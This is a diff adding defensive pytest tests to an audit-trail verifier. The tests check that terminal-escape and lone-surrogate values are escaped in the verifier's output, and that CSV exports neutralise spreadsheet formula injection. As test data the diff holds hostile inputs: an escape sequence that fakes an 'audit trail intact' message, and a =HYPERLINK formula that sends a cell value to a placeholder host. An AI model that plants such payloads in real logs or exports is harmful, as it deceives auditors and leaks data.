@@ -7,7 +7,9 @@ The trail builders here are shared with ``test_attacks.py``."""
 from __future__ import annotations
 
 import ast
+import csv
 import hashlib
+import io
 import itertools
 import json
 import subprocess
@@ -758,3 +760,78 @@ def test_cli_export_of_a_broken_trail_exits_2(
     out = capsys.readouterr()
     assert json.loads(out.out)["records"]
     assert f"{world.a.chain_id} sequence 2: removed" in out.err
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "x\r\x1b[2K\x1b[1A\raudit trail intact: 1 chain(s), 7 records in 1 blob(s)\x1b[8m",
+        "2026-12-01T01:00:00\ud800",  # a lone surrogate: stdout cannot encode it
+    ],
+    ids=["terminal-escapes", "lone-surrogate"],
+)
+def test_a_break_shows_what_a_line_holds_escaped(
+    service: BlobServiceClient,
+    world: World,
+    cli_env: list[str],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    payload: str,
+) -> None:
+    """Whoever can append to the trail chooses what a break quotes: both verifiers print it
+    with control characters and unencodable ones escaped, and still report it (exit 2)."""
+    w = world.a
+    assert w.last is not None
+    forged = records.seal_record(
+        {
+            **event("byok.imported", DAY3, state="imported", key_name="payments"),
+            "chain_id": w.chain_id,
+            "sequence": w.last["sequence"] + 1,
+            "prev_sha256": w.last["record_sha256"],
+            "recorded": payload,
+        }
+    )
+    w.trail.blobs[(w.container, w.blob)].append(records.encode_line(forged))
+    upload(service, world.trail)
+    trust_file = str(world.write_trust(tmp_path / "trust.json"))
+    assert audit_main(["verify", "--trust", trust_file, *cli_env]) == 2
+    out = capsys.readouterr().out
+    assert "audit trail BROKEN" in out
+    assert "\x1b" not in out
+    assert "\r" not in out
+    assert "\ud800" not in out
+    assert "\\x1b" in out or "\\ud800" in out
+    folder = export_folder(service, world.containers, tmp_path / "export")
+    code, bad, text = run_standalone(folder, Path(trust_file))
+    assert (code, bad) == (2, {w.chain_id: w.last["sequence"] + 1}), text
+    assert "\x1b" not in text
+    assert "Traceback" not in text
+
+
+def test_csv_export_cells_are_no_formulas(
+    service: BlobServiceClient,
+    world: World,
+    cli_env: list[str],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Uploaders choose blob names: a cell a spreadsheet would run as a formula gets a leading
+    ``'``; a control character is escaped. The JSON export keeps the values as recorded."""
+    t = DAY3 + timedelta(hours=5)
+    steps = package_events("sheet", 1, t)
+    steps[0]["blob_name"] = '=HYPERLINK("https://example.invalid/?"&A2,"open")'
+    steps[1]["blob_name"] = "@SUM(1+1)\x1b[8m"
+    world.a.append(steps, t)
+    upload(service, world.trail)
+    trust_file = str(world.write_trust(tmp_path / "trust.json"))
+    argv = ["export", "--key", "sheet", "--format", "csv", "--trust", trust_file, *cli_env]
+    assert audit_main(argv) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    names = [r["blob_name"] for r in rows if r["blob_name"]]
+    assert names == [
+        '\'=HYPERLINK("https://example.invalid/?"&A2,"open")',
+        "'@SUM(1+1)\\x1b[8m",
+    ]
+    assert audit_main(["export", "--key", "sheet", "--trust", trust_file, *cli_env]) == 0
+    exported = json.loads(capsys.readouterr().out)["records"]
+    assert exported[0]["blob_name"] == steps[0]["blob_name"]
